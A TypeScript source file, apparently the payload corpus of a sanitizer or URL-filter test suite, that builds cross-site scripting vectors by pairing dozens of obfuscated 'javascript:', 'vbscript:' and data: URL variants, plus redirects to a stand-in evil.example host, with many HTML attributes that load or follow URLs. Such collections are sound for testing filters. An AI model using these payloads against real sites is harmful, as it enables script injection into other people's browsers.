import { beside, decimal, hexadecimal, mixedCase, pairs, type Vector } from './vector.ts';

const script = 'javascript:';

/** Addresses that run code, and how they are hidden from somebody who compares beginnings. */
export const addresses: [Vector, ...Vector[]] = [
  (code) => `${script}${code}`,
  (code) => `${script.toUpperCase()}${code}`,
  (code) => `${mixedCase(script)}${code}`,
  (code) => ` ${script}${code}`,
  (code) => `\u0001${script}${code}`,
  (code) => `\u001F ${script}${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java\nscript:${code}`,
  (code) => `java&#9;script:${code}`,
  (code) => `java&#x0A;script&#x0D;:${code}`,
  (code) => `&Tab;java&NewLine;script&colon;${code}`,
  (code) => `javascript&#58;${code}`,
  (code) => `javascript&colon;${code.replace('(', '&lpar;').replace(')', '&rpar;')}`,
  (code) => `${decimal(script)}${code}`,
  (code) => `${decimal(script, '')};${code}`,
  (code) => `${hexadecimal(script, '0000')}${code}`,
  (code) => `&#106avascript:${code}`,
  (code) => `\\${script}${code}`,
  (code) => `javascript%3A${code}`,
  (code) => `javascript://%0a${code}`,
  (code) => `javascript://blog.example/%0d%0a${code}//`,
  (code) => `javascript:/*--></title></style></textarea>*/${code}`,
  (code) => `javascript:void(${code})`,
  (code) => `jav\u0000ascript:${code}`,
  (code) => `\u00A0${script}${code}`,
  (code) => `javascr\u00ADipt:${code}`,
  (code) => `feed:${script}${code}`,
  (code) => `view-source:${script}${code}`,
  (code) => `x-${script}${code}`,
  (code) => `vbscript:${code}`,
  (code) => `livescript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')}`,
  (code) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  (code) => `data:text/javascript,${code}`,
  (code) => `blob:https://blog.example/${code}`,
  (code) => `filesystem:https://blog.example/${code}`,
  (code) => `//evil.example/?${code}`,
  (code) => `/\\evil.example/${code}`,
  (code) => `https:evil.example/${code}`,
];

/** Places where a browser follows or loads an address. */
const sinks: Vector[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `<svg><a xlink:href="${url}"><text y="9">x</text></a></svg>`,
  (url) => `<math><mi href="${url}">x</mi></math>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<img src="${url}">`,
];

/** Places that are the same to a filter: one address each is enough. */
const otherSinks: Vector[] = [
  ...[
    'area href',
    'base href',
    'link rel=stylesheet href',
    'link rel=import href',
    'link rel=preload as=script href',
  ],
  ...['link rel=manifest href', 'link rel=icon href', 'link rel=prefetch href', 'link rel=dns-prefetch href'],
  ...[
    'embed src',
    'frame src',
    'input type=image src',
    'video poster',
    'video src',
    'audio src',
    'source src',
  ],
  ...['track default src', 'img srcset', 'img lowsrc', 'img dynsrc', 'img longdesc', 'body background'],
  ...['table background', 'td background', 'bgsound src', 'layer src', 'applet code', 'applet codebase'],
  ...['object codebase', 'object classid', 'param name=movie value', 'blockquote cite', 'q cite', 'del cite'],
  ...['button form=x formaction', 'input type=submit formaction', 'a href=# ping', 'html manifest'],
  ...['svg/><image href', 'svg><use href', 'svg><script href', 'svg><feImage href', 'isindex action'],
  ...['iframe srcdoc', 'portal src', 'wc-video data-src', 'wc-conversation data-host', 'a target=_top href'],
  ...['meta http-equiv=refresh content="0;url=', 'meta http-equiv=refresh content="0; '],
].map(
  (sink): Vector =>
    (url) =>
      sink.includes('"') ? `<${sink}${url}">` : `<${sink}="${url}">x`,
);

/** Addresses that run code, in every place that takes an address. */
export const addressVectors: Vector[] = [
  ...pairs(addresses, sinks).map(
    ([address, sink]): Vector =>
      (code) =>
        sink(address(code)),
  ),
  ...beside([...otherSinks, ...otherSinks, ...otherSinks], addresses).map(
    ([sink, address]): Vector =>
      (code) =>
        sink(address(code)),
  ),
];
